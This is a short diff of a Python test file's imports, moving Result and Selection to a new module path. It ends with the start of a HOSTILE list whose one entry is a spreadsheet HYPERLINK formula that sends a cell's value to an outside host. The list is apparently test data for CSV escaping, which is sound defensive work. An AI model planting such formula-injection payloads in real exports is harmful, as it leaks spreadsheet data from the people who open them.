@@ -23,6 +23,7 @@ from tests.reporting.test_render import TEX
 from tests.written_results import build
 from zsl.errors import is_control, printable
 from zsl.files import escaping
+from zsl.outputs.result import Result, Selection
 from zsl.reporting import occurrence_plot, reproduction
 from zsl.reporting.comparison import class_plot, ranking_plot
 from zsl.reporting.comparison.classes import by_class
@@ -35,7 +36,6 @@ from zsl.reporting.occurrences import BINS, histogram
 from zsl.reporting.render import latex, markdown, table_csv
 from zsl.reporting.report import written
 from zsl.reporting.table import rows
-from zsl.results.result import Result, Selection
 
 HOSTILE = [
     '=HYPERLINK("http://x/?"&A1,"y")',
